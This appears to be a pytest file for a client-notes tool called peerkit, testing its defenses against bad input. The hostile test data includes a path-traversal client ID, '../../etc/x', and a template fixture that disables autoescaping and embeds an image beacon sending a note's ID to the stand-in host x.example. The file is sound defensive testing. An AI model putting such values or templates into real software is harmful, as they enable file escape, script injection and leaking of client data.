"""Rows of the bad-input table (security-reliability.md section 10) not covered elsewhere."""
import errno
import os
import tomllib

import openpyxl
import pytest

from peerkit import excel, storage
from peerkit.errors import PeerkitError
from peerkit.workspace import Workspace


@pytest.mark.parametrize("bad", ["../../etc/x", "CON", "a/b", "x" * 300, "😀"])
def test_client_ids_that_are_not_safe_file_names_are_refused(run, ws_path, bad):
    before = sorted(p.name for p in (ws_path / "clients").iterdir())
    result = run("client", "add", bad, "--name", "Test Person")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert sorted(p.name for p in (ws_path / "clients").iterdir()) == before
    result = run("client", "add", "--from", "-", input=f'id = "{bad}"\nname = "Test Person"\n')
    assert result.exit_code == 3
    assert sorted(p.name for p in (ws_path / "clients").iterdir()) == before


def test_interleaved_tables_big_ints_and_deep_arrays_keep_their_meaning(ws):
    path = ws.path("clients", "C004.toml")
    path.write_text(
        'id = "C004"\nname = "Morgan Testperson"\n'
        '[[goals]]\nid = "G1"\ntext = "first"\n'
        '[[authorizations]]\ncode = "H0038"\nunits = 9223372036854775807\nstart = 2026-01-01\nend = 2026-12-31\n'
        '[[goals]]\nid = "G2"\ntext = "second"\n'
        'deep = ' + "[" * 100 + "]" * 100 + "\n")
    c = Workspace(ws.root).client("C004")
    assert [g.id for g in c.goals] == ["G1", "G2"]
    assert c.authorizations[0].units == 2**63 - 1


def test_crlf_in_narrative_is_normalised_deliberately(ws):
    path = ws.path("notes", "2026", "11", "N-2026-11-16-C001-1.toml")
    text = path.read_text().replace('plan = "Go to the viewing together on Friday."',
                                    'plan = "line one\\r\\nline two"')
    path.write_bytes(text.replace("\n", "\r\n").encode())
    note = Workspace(ws.root).note("N-2026-11-16-C001-1")
    assert note.plan == "line one\nline two"


def test_none_values_are_omitted_when_saving(tmp_path):
    p = tmp_path / "x.toml"
    storage.write_toml(p, {"id": "X", "discharged": None, "nested": {"a": None, "b": 1}})
    assert tomllib.loads(p.read_text()) == {"id": "X", "nested": {"b": 1}}


def test_lone_surrogates_never_crash_an_export(tmp_path):
    wb = openpyxl.Workbook()
    excel.set_text(wb.active["A1"], "bad \ud800 text")
    excel.save_workbook(wb, tmp_path / "s.xlsx")
    assert openpyxl.load_workbook(tmp_path / "s.xlsx").active["A1"].value == "bad  text"


def test_disk_full_during_an_xlsx_export_leaves_no_partial_file(tmp_path, monkeypatch):
    target = tmp_path / "review.xlsx"
    target.write_bytes(b"previous export")
    wb = openpyxl.Workbook()

    def failing_save(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"PK partial")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", failing_save)
    with pytest.raises(PeerkitError, match="disk full writing .*review.xlsx: free space and run again"):
        excel.save_workbook(wb, target)
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["review.xlsx"]


def test_doctor_warns_about_open_folders_and_synced_locations(run, tmp_path):
    import shutil

    from tests.conftest import EXAMPLE, Runner

    synced = tmp_path / "Dropbox" / "work"
    shutil.copytree(EXAMPLE, synced)
    os.chmod(synced, 0o755)
    result = Runner(synced)("doctor")
    assert result.exit_code == 1
    assert "the workspace folder is open to other users" in result.output
    assert "cloud-synced folder" in result.output


def test_risky_agency_templates_are_linted(run, ws_path):
    folder = ws_path / "templates" / "notes"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "note.html.j2").write_text(
        '{% autoescape false %}{{ note.plan|safe }}{% endautoescape %}\n<img src="https://x.example/?{{ note.id }}">\n')
    result = run("templates", "check")
    assert result.exit_code == 1
    assert "note.html.j2:1: uses '|safe'" in result.output
    assert "note.html.j2:1: turns autoescape off" in result.output
    assert "note.html.j2:2: loads or links a remote address" in result.output
    assert "note.html.j2:1" in run("doctor").output
